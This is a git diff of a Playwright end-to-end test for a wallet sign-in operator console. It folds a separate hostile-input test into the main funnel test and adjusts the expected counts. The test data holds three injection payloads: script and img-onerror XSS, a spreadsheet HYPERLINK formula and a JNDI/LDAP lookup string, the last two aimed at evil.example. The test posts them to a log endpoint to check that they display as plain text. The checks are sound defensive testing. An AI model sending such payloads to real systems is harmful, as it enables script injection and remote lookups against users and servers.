@@ -5,6 +5,7 @@ import { HostPage } from '../pages/HostPage'
 import { OperatorPage } from '../pages/OperatorPage'
 import { SignInDialog } from '../pages/SignInDialog'
 import { type LogEntry, noteLog } from '../rules/log'
+import { skipSuccess } from '../rules/skipSuccess'
 import { alice, keys } from '../signIn/keys'
 import { expect, test as signIn } from '../signIn/test'
 import { installWallet } from '../wallet/installWallet'
@@ -15,12 +16,12 @@ type Visitor = { host: HostPage; dialog: ConnectDialog; sign: SignInDialog; answ
 /** The whole path: real visitors, a real server, a real operator. */
 const test = signIn.extend<{ visitor: (wallet?: Wanted) => Promise<Visitor>; console: OperatorPage }>({
   settings: { mode: 'optional', operators: [alice] },
-  ownSite: true,
   visitor: async ({ browser, site }, use) => {
     const contexts: Awaited<ReturnType<Browser['newContext']>>[] = []
     await use(async (wallet) => {
       const context = await browser.newContext({ baseURL: site.origin })
       contexts.push(context)
+      await skipSuccess(context)
       const entries = noteLog(context)
       const page = await context.newPage()
       if (wallet) await installWallet(page, wallet)
@@ -43,14 +44,24 @@ const until = async ({ answers }: Visitor, step: string) => {
   await expect.poll(() => answers().map((entry) => entry.step)).toContain(step)
 }
 
-test('The operator sees what visitors did, and the next one too', async ({ page, console, dialog, sign, visitor }) => {
+const hostile = [
+  '<script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">',
+  '=HYPERLINK("https://evil.example","click")',
+  '\u001b[31mred\u001b[0m \u0024{jndi:ldap://evil.example/a}',
+]
+
+test('The operator sees what visitors did, and the next one too; texts of a stranger are shown as text', async ({
+  page,
+  console,
+  dialog,
+  sign,
+  site,
+  visitor,
+}) => {
   test.slow()
   const connected = { ...rabby, keys: [keys[1]] }
   const looks = await visitor()
   await until(looks, 'opened')
-  const connects = await visitor(connected)
-  await connects.dialog.chooses('Rabby Wallet')
-  await until(connects, 'connected')
   const signs = await visitor(connected)
   await signs.dialog.chooses('Rabby Wallet')
   await until(signs, 'connected')
@@ -61,12 +72,17 @@ test('The operator sees what visitors did, and the next one too', async ({ page,
   const refuses = await visitor({ ...connected, behaviour: { connect: 'reject' } })
   await refuses.dialog.chooses('Rabby Wallet')
   await until(refuses, 'failed')
-  const sent = [looks, connects, signs, refuses].flatMap(({ answers }) => answers())
+  const sent = [looks, signs, refuses].flatMap(({ answers }) => answers())
+  for (const message of hostile) {
+    const form = { level: 'error', code: 'CLIENT_FETCH_ERROR', message, stack: message, name: message, client: 'true' }
+    const answer = await page.request.post(`${site.origin}/api/auth/_log`, { form })
+    expect(answer.status()).toBe(200)
+  }
 
   await installWallet(page, { ...rabby, keys: [keys[0]] })
   await console.signsInAtTheGate(dialog, sign)
   await console.shows()
-  expect(recount(sent)).toEqual([4, 3, 3, 2, 1])
+  expect(recount(sent)).toEqual([3, 2, 2, 1, 1])
   const funnel = console.table('From open to signed in').getByRole('row')
   for (const [place, count] of recount(sent).entries())
     await expect(
@@ -75,9 +91,15 @@ test('The operator sees what visitors did, and the next one too', async ({ page,
         .getByRole('cell')
         .first(),
     ).toHaveText(String(count))
-  await expect(console.row('Wallets and methods', /^Rabby Wallet Browser 3 67%/)).toBeVisible()
+  await expect(console.row('Wallets and methods', /^Rabby Wallet Browser 2 50%/)).toBeVisible()
   await expect(console.row('What went wrong', /WALLET\/REJECTED|wallet\/rejected/i)).toHaveText(/1/)
   await expect(console.feed).toContainText('Signed in')
+  const row = console.row('What went wrong', /CLIENT_FETCH_ERROR/i)
+  await expect(row).toContainText('3')
+  await row.getByRole('button').click()
+  await expect(page.getByText('<script>document.title="owned"</script>').first()).toBeVisible()
+  await expect(page.getByText('=HYPERLINK(').first()).toBeVisible()
+  await expect(page).not.toHaveTitle('owned')
 
   // Another visitor connects while the operator's page is open.
   const before = await console.entries.count()
@@ -87,31 +109,11 @@ test('The operator sees what visitors did, and the next one too', async ({ page,
   await expect.poll(() => console.entries.count()).toBeGreaterThanOrEqual(Math.min(before + 3, 9))
 
   // The last entries may still be on their way into the database.
-  const sheet = async () => (await page.request.get('/api/console/export.csv?range=24h&what=funnel')).text()
-  await expect.poll(sheet).toMatch(/"opened",5\s+"wallet_chosen",4\s+"requested",4\s+"connected",3\s+"signed_in",1/)
-})
-
-test('Texts that a stranger sends are shown as text, and do not run', async ({ page, console, dialog, sign, site }) => {
-  const hostile = [
-    '<script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">',
-    '=HYPERLINK("https://evil.example","click")',
-    '\u001b[31mred\u001b[0m \u0024{jndi:ldap://evil.example/a}',
-  ]
-  for (const message of hostile) {
-    const form = { level: 'error', code: 'CLIENT_FETCH_ERROR', message, stack: message, name: message, client: 'true' }
-    const answer = await page.request.post(`${site.origin}/api/auth/_log`, { form })
-    expect(answer.status()).toBe(200)
-  }
-  await installWallet(page, { ...rabby, keys: [keys[0]] })
-  await console.signsInAtTheGate(dialog, sign)
-  await console.shows()
-  const row = console.row('What went wrong', /CLIENT_FETCH_ERROR/i)
-  await expect(row).toContainText('3')
-  await row.getByRole('button').click()
-  await expect(page.getByText('<script>document.title="owned"</script>').first()).toBeVisible()
-  await expect(page.getByText('=HYPERLINK(').first()).toBeVisible()
-  await expect(page).not.toHaveTitle('owned')
-  const sheet = await page.request.get('/api/console/export.csv?range=24h&what=entries')
-  expect(sheet.headers()['content-disposition']).toContain('attachment')
-  expect(await sheet.text()).not.toMatch(/(^|,)"?[=+@-]HYPERLINK/m)
+  const sheet = (what: string) => page.request.get(`/api/console/export.csv?range=24h&what=${what}`)
+  await expect
+    .poll(async () => (await sheet('funnel')).text())
+    .toMatch(/"opened",4\s+"wallet_chosen",3\s+"requested",3\s+"connected",2\s+"signed_in",1/)
+  const entries = await sheet('entries')
+  expect(entries.headers()['content-disposition']).toContain('attachment')
+  expect(await entries.text()).not.toMatch(/(^|,)"?[=+@-]HYPERLINK/m)
 })
